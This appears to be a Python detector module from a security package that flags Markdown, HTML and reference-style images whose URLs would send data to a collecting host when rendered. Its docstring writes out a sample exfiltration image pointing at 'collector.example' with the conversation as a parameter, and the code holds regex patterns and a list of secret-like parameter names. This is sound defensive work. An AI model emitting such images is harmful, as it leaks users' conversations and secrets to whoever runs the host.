"""Markdown and HTML images whose URL would carry data out when rendered (SPEC S3).

A model that writes ``![x](https://collector.example/p.png?d=<the conversation>)`` sends
the conversation to whoever runs that host the moment the reply is rendered. This module
finds such images, inline, HTML and reference style; hosts are judged as in ``exfil.py``
(well-known services and badges are not exfiltration).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import cache

from mnemo.security.exfil import URL_HOST, is_sink, is_well_known
from mnemo.security.matchers import compile_pattern
from mnemo.security.normalise import Form

__all__ = ["exfil_image"]

_INLINE_IMAGE = r"!\[[^\[\]\n]{0,300}\]\(\s{0,3}<?(https?://[^\s)>]{1,2000})"
_HTML_IMAGE = r"<\s{0,3}img\b[^>]{0,300}?\bsrc\s{0,3}=\s{0,3}[\"']?(https?://[^\"'\s>]{1,2000})"
_REF_IMAGE = r"!\[([^\[\]\n]{0,300})\](?:\[([^\[\]\n]{0,100})\])?"
_REF_DEF = r"(?:^|\n)\s{0,3}\[([^\]\n]{1,100})\]:\s{0,3}<?(https?://\S{1,2000})"
_PLACEHOLDER = re.compile(r"[{}$<>\[\]`]|%7b|%7d|%24|%3c|%3e")
_DATA_PARAM = re.compile(
    r"[?&](?:data|d|q|query|msg|message|messages|content|conv|conversation|chat|history"
    r"|secret|key|k|token|t|memory|info|payload|p|text|prompt|session|summary|s|u|user|c"
    r"|cookie|log|leak|x|e|env|m|input|output|ctx|context)=", re.IGNORECASE)


@cache
def _image_patterns() -> tuple[re.Pattern[str], ...]:
    return tuple(compile_pattern(p) for p in (_INLINE_IMAGE, _HTML_IMAGE, _REF_IMAGE,
                                               _REF_DEF))


def _suspicious_url(url: str) -> bool:
    host_match = URL_HOST.match(url)
    host = host_match.group(1) if host_match else ""
    if host and is_well_known(host):
        return False
    if is_sink(host) or _PLACEHOLDER.search(url):
        return True
    query = url.partition("?")[2]
    if not query:
        return False
    return bool(re.search(r"=(?:&|$)", query) or _DATA_PARAM.search("?" + query))


def exfil_image(form: Form) -> Iterator[tuple[int, int]]:
    """Markdown or HTML images whose URL would carry data out when the image is fetched.

    Inline (``![a](url)``), HTML (``<img src=url>``) and reference style (``![a][ref]``
    with ``[ref]: url`` anywhere in the text). A URL is suspicious when it holds a
    template placeholder, an empty parameter waiting to be filled, a data-like parameter
    (``?q=``, ``?data=``), or points at a collection service; badges and images of
    well-known hosts are not.
    """
    inline, html, ref_use, ref_def = _image_patterns()
    text = form.text
    for pattern in (inline, html):
        for found in pattern.finditer(text):
            if _suspicious_url(found.group(1)):
                yield found.start(), found.end()
    definitions = {m.group(1).strip().lower(): (m.start(1), m.end(), m.group(2))
                   for m in ref_def.finditer(text)}
    if not definitions:
        return
    for found in ref_use.finditer(text):
        if text[found.end():found.end() + 1] == "(":
            continue  # an inline image, handled above
        label = (found.group(2) or found.group(1)).strip().lower()
        target = definitions.get(label)
        if target is not None and _suspicious_url(target[2]):
            yield found.start(), found.end()
            yield target[0], target[1]
